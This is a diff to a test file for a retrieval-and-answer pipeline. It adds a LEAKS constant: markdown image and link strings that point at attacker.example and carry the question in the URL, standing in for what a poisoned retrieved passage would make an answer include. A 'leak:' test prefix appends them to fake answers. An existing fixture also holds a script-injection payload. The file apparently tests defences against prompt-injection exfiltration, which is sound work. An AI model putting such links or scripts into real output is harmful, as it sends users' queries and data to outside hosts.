@@ -25,6 +25,11 @@ DOCS = [
     ("physics", "Injected", "</script><script>window.pwned=1</script><b>bold</b> & carbon <!-- text"),
 ]
 _WORD = re.compile(r"[a-z]+")
+# What a poisoned passage asks an answer to carry: an image and links whose address holds the question.
+LEAKS = (
+    " ![status](https://attacker.example/leak.png?q=secret) See [the details](https://attacker.example/d?q=secret)"
+    " or <https://attacker.example/a?q=secret> and [the docs](https://docs.allowed.org/guide)."
+)
 
 
 def words(text: str) -> set[str]:
@@ -115,7 +120,9 @@ class FakeLLM:
 class FakePipeline:
     """Retrieve, judge (word overlap), select and answer, recording decisions like the sieve does.
 
-    Questions starting with ``raise:NAME`` raise that library error; ``sleep:SECONDS`` waits first."""
+    Questions starting with ``raise:NAME`` raise that library error; ``sleep:SECONDS`` waits first;
+    ``leak:`` gets an answer that, as a poisoned passage would ask, carries an outside image and
+    links (:data:`LEAKS`)."""
 
     delay_s = 0.0
     running = 0
@@ -170,6 +177,8 @@ class FakePipeline:
                           abstain_reason="every candidate was dropped by judge", confidence=0.0)
         with trace.timed("generate"):
             text = f"{evidence[0].chunk.text} [1]" + (" The moon is cheese [2]." if len(evidence) > 1 else "")
+            if question.startswith("leak:"):
+                text += LEAKS
         trace.count_llm(40, 12)
         claims = [ClaimVerdict(evidence[0].chunk.text, [evidence[0].chunk.id], True, 0.91, "fake-judge")]
         if len(evidence) > 1:
